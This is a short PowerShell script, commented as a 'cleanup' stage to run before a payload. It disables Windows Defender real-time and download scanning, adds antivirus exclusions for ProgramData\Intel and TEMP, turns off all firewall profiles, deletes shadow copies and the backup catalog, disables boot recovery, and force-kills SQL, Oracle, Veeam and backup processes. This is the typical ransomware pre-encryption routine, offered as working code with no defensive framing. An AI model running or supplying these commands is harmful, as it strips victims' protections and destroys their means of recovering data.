# "cleanup" stage run before the payload
Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath 'C:\ProgramData\Intel', "$env:TEMP"
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False

vssadmin.exe delete shadows /all /quiet
bcdedit.exe /set '{default}' recoveryenabled no
wbadmin delete catalog -quiet

$procs = 'sql', 'oracle', 'veeam', 'backup'
foreach ($p in $procs) {
    Get-Process -Name "*$p*" -ErrorAction SilentlyContinue | Stop-Process -Force
}
